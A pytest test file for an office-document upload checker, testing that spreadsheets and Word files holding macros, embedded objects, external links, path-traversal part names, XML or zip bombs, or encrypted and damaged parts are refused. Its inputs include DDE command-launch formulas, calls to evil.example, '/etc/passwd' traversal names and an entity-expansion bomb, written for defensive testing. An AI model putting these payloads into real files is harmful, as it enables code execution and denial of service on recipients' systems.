"""Files that mean harm, or are not what they say, are told by content, each with its reason."""

import struct
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile, ZipInfo

import pytest

from labs.files.checker import container
from labs.files.checker.container import Refused, inspect
from labs.files.checker.workbook import Unreadable, read_book
from labs.files.errors import REASONS, FileRefused
from labs.files.office import require_fit
from tests.factories import files as make

SHEET = "xl/worksheets/sheet1.xml"
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r9" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    "</Relationships>"
)
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


def refusal(content: bytes, kind: str = "spreadsheet") -> str:
    with pytest.raises(Refused) as found:
        inspect(content, kind)
    return str(found.value)


def with_part(name: str, data: bytes) -> bytes:
    return make.rebuilt(make.start_workbook(), {name: data})


def with_sheet_xml(inner: str) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return with_part(SHEET, f'<worksheet xmlns="{space}">{inner}</worksheet>'.encode())


def document_with(inner: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'<w:document xmlns:w="{space}"><w:body><w:p>{inner}</w:p></w:body></w:document>'
    return make.rebuilt(make.start_document(), {"word/document.xml": body.encode()})


def types_with(word: bytes) -> bytes:
    return make.with_part(
        make.start_workbook(),
        "[Content_Types].xml",
        lambda xml: xml.replace(b"spreadsheetml.sheet.main", word),
    )


def test_plain_files_come_in() -> None:
    assert inspect(make.start_workbook(), "spreadsheet") is None
    assert inspect(make.start_document(), "document") is None


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "not_office"),
        (b"%PDF-1.7 not a table", "not_office"),
        (b"Xa,Phi\n=cmd|'/c calc'!A0,2\n", "not_office"),
        (OLE + b"\0" * 600 + "Workbook".encode("utf-16-le"), "legacy"),
        (OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
        (b"PK\x03\x04 and then nothing", "damaged"),
    ],
)
def test_what_is_no_office_file(content: bytes, reason: str) -> None:
    assert refusal(content) == reason


def test_the_name_does_not_count_but_the_kind_does() -> None:
    assert refusal(make.start_document(), "spreadsheet") == "wrong_kind"
    assert refusal(make.start_workbook(), "document") == "wrong_kind"


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/VBAPROJECT.BIN", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/embeddings/oleObject1.bin", "embedded"),
        ("xl/activeX/activeX1.xml", "embedded"),
        ("xl/externalLinks/externalLink1.xml", "external"),
        ("xl/connections.xml", "external"),
        ("../../etc/cron.d/evil", "path"),
        ("/etc/passwd", "path"),
        ("C:/x.xml", "path"),
        ("xl\\worksheets\\x.xml", "path"),
    ],
)
def test_parts_that_do_not_belong(name: str, reason: str) -> None:
    assert refusal(with_part(name, b"<a/>")) == reason


def test_macros_by_content_type() -> None:
    assert refusal(types_with(b"sheet.macroEnabled.main")) == "macros"
    assert refusal(types_with(b"something.else.main")) == "not_office"


@pytest.mark.parametrize(
    ("kind", "target", "reason"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", "external"),
        ("oleObject", "file:///c:/x", "external"),
        ("hyperlink", "file:///c:/windows/x.exe", "external"),
        ("hyperlink", "\\\\host\\share", "external"),
    ],
)
def test_outside_targets(kind: str, target: str, reason: str) -> None:
    relations = RELATION.format(kind=kind, target=target).encode()

    assert refusal(with_part("xl/worksheets/_rels/sheet1.xml.rels", relations)) == reason


def test_plain_links_are_allowed() -> None:
    relations = RELATION.format(kind="hyperlink", target="https://thanhhoa.example/").encode()

    assert (
        inspect(with_part("xl/worksheets/_rels/sheet1.xml.rels", relations), "spreadsheet") is None
    )


@pytest.mark.parametrize(
    ("formula", "reason"),
    [
        ("cmd|'/c calc'!A0", "dde"),
        ("DDE|x", "dde"),
        ("WEBSERVICE(&quot;http://evil.example&quot;)", "external"),
        ("SUM([1]Sheet1!A1)", "external"),
        ("CALL(&quot;k&quot;,&quot;f&quot;)", "external"),
    ],
)
def test_formulas_that_reach_out(formula: str, reason: str) -> None:
    cell = f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>'

    assert refusal(with_sheet_xml(cell)) == reason


def test_a_bar_in_a_text_is_no_formula() -> None:
    cell = '<sheetData><row r="1"><c r="A1"><f>&quot;a|b&quot;&amp;A2</f></c></row></sheetData>'

    assert inspect(with_sheet_xml(cell), "spreadsheet") is None


@pytest.mark.parametrize(
    ("inner", "reason"),
    [
        ("<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd</w:instrText></w:r>", "dde"),
        (
            "<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE x</w:instrText></w:r>",
            "dde",
        ),
        ('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/p.png"/>', "dde"),
        ("<w:r><w:object><w:OLEObject/></w:object></w:r>", "embedded"),
        ("<w:altChunk/>", "embedded"),
    ],
)
def test_documents_that_reach_out(inner: str, reason: str) -> None:
    assert refusal(document_with(inner), "document") == reason


def test_a_page_number_is_a_field_like_any() -> None:
    inner = "<w:r><w:instrText> PAGE </w:instrText></w:r>"

    assert inspect(document_with(inner), "document") is None


@pytest.mark.parametrize("name", [SHEET, "xl/media/image1.png", "docProps/core.xml"])
def test_xml_bombs_wherever_they_lie(name: str) -> None:
    assert refusal(with_part(name, BOMB)) == "xml"


def test_an_xml_bomb_in_another_encoding() -> None:
    text = BOMB.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')

    assert refusal(with_part(SHEET, text.encode("utf-16"))) == "xml"


def test_zip_bombs() -> None:
    assert refusal(with_part("xl/media/a.png", b"\0" * (30 << 20))) == "bomb"


def test_more_parts_than_a_file_has(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(container, "MAX_PARTS", 5)

    assert refusal(make.start_workbook()) == "bomb"


def test_sizes_that_lie_are_damaged() -> None:
    """The directory says ten bytes; what unpacks is longer."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as parts:
        parts.writestr("[Content_Types].xml", "<Types/>")
        parts.writestr("xl/a.xml", "<a>" + "x" * 90_000 + "</a>")
    raw = bytearray(made.getvalue())
    for mark in (b"PK\x01\x02",):
        place = raw.rindex(mark)
        raw[place + 24 : place + 28] = struct.pack("<I", 10)

    assert refusal(bytes(raw)) == "damaged"


def test_huge_sheets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(container, "MAX_CELLS", 20)

    assert refusal(make.start_workbook()) == "too_large"


def test_deep_nesting() -> None:
    assert refusal(with_sheet_xml("<a>" * 300 + "</a>" * 300)) == "too_large"


def test_encrypted_parts() -> None:
    raw = bytearray(make.start_workbook())
    place = raw.index(b"PK\x01\x02")
    raw[place + 8] |= 1

    assert refusal(bytes(raw)) == "encrypted"


def test_two_parts_of_one_name() -> None:
    made = BytesIO(make.start_workbook())
    with ZipFile(made, "a") as parts:
        parts.writestr(ZipInfo("XL/WORKBOOK.xml"), "<a/>")

    assert refusal(made.getvalue()) == "damaged"


def test_broken_xml() -> None:
    assert refusal(with_part(SHEET, b"<worksheet><a></worksheet>")) == "damaged"


@pytest.mark.usefixtures("boxed")
@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (OLE, "legacy"),
        (with_part(SHEET, BOMB), "xml"),
        (with_part("xl/vbaProject.bin", b"x"), "macros"),
    ],
)
def test_the_box_tells_the_reason(content: bytes, reason: str) -> None:
    with pytest.raises(FileRefused) as found:
        require_fit(content, kind="spreadsheet")

    assert (found.value.reason, found.value.message) == (reason, REASONS[reason])


def test_every_reason_has_one_sentence() -> None:
    assert len({str(one) for one in REASONS.values()}) == len(REASONS) == 17


@pytest.mark.parametrize("encoding", ["x-unknown", "rot13", "base64"])
def test_an_encoding_that_nobody_knows_is_damage(encoding: str) -> None:
    part = f'<?xml version="1.0" encoding="{encoding}"?><a>x</a>'.encode()

    assert refusal(with_part("xl/more.xml", part)) == "damaged"


@pytest.mark.parametrize("method", [ZIP_BZIP2, ZIP_LZMA])
def test_a_packing_that_no_office_program_writes_is_damage(method: int) -> None:
    packed = BytesIO()
    with ZipFile(BytesIO(make.start_workbook())) as plain, ZipFile(packed, "w", method) as parts:
        for name in plain.namelist():
            parts.writestr(name, plain.read(name))

    assert refusal(packed.getvalue()) == "damaged"


def test_parts_that_make_no_workbook_are_unreadable() -> None:
    bent = make.with_part(
        make.start_workbook(),
        "docProps/core.xml",
        lambda xml: xml.replace(b"http://purl.org/dc/terms/", b"-5%", 1),
    )

    with pytest.raises(Unreadable):
        read_book(bent)
